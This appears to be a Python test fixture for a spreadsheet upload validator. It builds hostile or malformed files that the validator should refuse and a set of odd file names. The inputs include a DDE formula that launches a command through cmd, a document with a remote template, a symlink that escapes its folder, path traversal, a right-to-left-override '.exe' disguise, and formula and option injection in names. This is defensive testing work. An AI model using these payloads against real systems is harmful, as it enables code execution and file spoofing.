"""What isn't a workbook, whatever it is called, and sizes and names that only a disk knows."""

from __future__ import annotations

import struct
import zlib
from pathlib import Path

from mail.compound import MAGIC, compound
from rounds.hostile.cases import End, Kit, case
from rounds.hostile.packages import MIB, packed


def pdf() -> bytes:
    """A page with nothing on it."""
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj "
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )


def png() -> bytes:
    """A point."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")


def _word_with_remote_template(_: Kit) -> bytes:
    rels = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://esempio.invalid/x.dotm" TargetMode="External"/></Relationships>'
    return packed({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>", "word/_rels/settings.xml.rels": rels})


def _sparse(size: int, start: bytes = b""):
    def lay(_: Kit, folder: Path) -> Path:
        path = folder / "enorme.xlsx"
        with path.open("wb") as file:
            file.write(start)
            file.truncate(size)
        return path

    return lay


def _named(name: str):
    def lay(kit: Kit, folder: Path) -> Path:
        path = folder / name
        path.write_bytes(kit.good)
        return path

    return lay


def _linked(kit: Kit, folder: Path) -> Path:
    """A symbolic link to a file outside."""
    outside = folder.parent / "fuori" / "segreto.txt"
    outside.parent.mkdir(exist_ok=True)
    outside.write_text("riservato")
    (folder / "scheda.xlsx").symlink_to(outside)
    (folder / "giro-in-tondo").symlink_to(folder)
    return folder


ODD_NAMES = {
    "rovesciato": "scheda\u202exslx.exe",
    "con una faccina": "📊 scheda compilata 😀.xlsx",
    "con un a capo": "scheda\n=1+1.xlsx",
    "con la barra di Windows": "..\\..\\scheda.xlsx",
    "di un dispositivo": "CON.xlsx",
    "lunghissimo": "è" * 120 + ".xlsx",
    "che è un'opzione": "--help.xlsx",
    "che è una formula": '=HYPERLINK("http:…","x").xlsx',
    "senza estensione": "scheda",
    "con un'altra estensione": "scheda.doc",
    "di byte non UTF-8": b"scheda-\xe8\xff.xlsx".decode("utf-8", "surrogateescape"),
    "del registro": "registro.xlsx",
    "nascosto": ".scheda.xlsx",
}  # fmt: skip

CASES = (
    case("zero byte", "vuoto.xlsx", lambda _: b"", End.REFUSED, "PX-M001"),
    case("duecento megabyte di niente", "enorme.xlsx", None, End.REFUSED, "PX-M004 PX-M007", lay=_sparse(200 * MIB), heavy=True),
    case("novanta megabyte che cominciano come un foglio", "enorme.xlsx", None, End.REFUSED, "PX-M002", lay=_sparse(90 * MIB, b"PK\3\4"), heavy=True),
    case("novanta megabyte che cominciano come un messaggio", "enorme.xlsx", None, End.REFUSED, "PX-M009 PX-M005", lay=_sparse(90 * MIB, b"From: x@y.example\r\n\r\n"), heavy=True),
    case("tre gigabyte", "enorme.xlsx", None, End.REFUSED, "PX-M004 PX-L004", lay=_sparse(3072 * MIB)),
    case("un PDF", "scheda.pdf", lambda _: pdf(), End.REFUSED, "PX-M007"),
    case("un PDF che si dice foglio", "scheda.xlsx", lambda _: pdf(), End.REFUSED, "PX-M007"),
    case("un'immagine che si dice foglio", "scheda.xlsx", lambda _: png(), End.REFUSED, "PX-M007"),
    case("un CSV che si dice foglio", "scheda.xlsx", lambda _: b"Codice;Risultato\nO1.2.4-a;=1+1\nS2.1.1-b;98%\n", End.REFUSED, "PX-M007"),
    case("una pagina HTML che si dice foglio", "scheda.xls", lambda _: b"<html><table><tr><td>=cmd|' /c calc'!A0</td></tr></table></html>", End.REFUSED, "PX-M007"),
    case("un foglio XML del 2003", "scheda.xls", lambda _: b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>', End.REFUSED, "PX-M007"),
    case("un programma che si dice foglio", "scheda.xlsx", lambda _: b"MZ\x90\0" + bytes(2000), End.REFUSED, "PX-M007"),
    case("un documento con modello remoto", "scheda.xlsx", _word_with_remote_template, End.REFUSED, "PX-M007"),
    case("un contenitore OLE qualunque", "scheda.xls", lambda _: compound({"WordDocument": b"x" * 5000}), End.REFUSED, "PX-M007"),
    case("un contenitore OLE a caso", "scheda.xls", lambda _: MAGIC + bytes(range(256)) * 64, End.REFUSED, "PX-M002 PX-M007"),
    case("byte a caso", "scheda.xlsx", lambda _: bytes((n * 7919) % 251 for n in range(70_000)), End.REFUSED, "PX-M007"),
    case("un collegamento simbolico a un file fuori", "collegamento", None, End.REFUSED, "", lay=_linked),
    *(case(f"nome {what}", name, None, End.ACCEPTED, lay=_named(name)) for what, name in ODD_NAMES.items()),
)  # fmt: skip
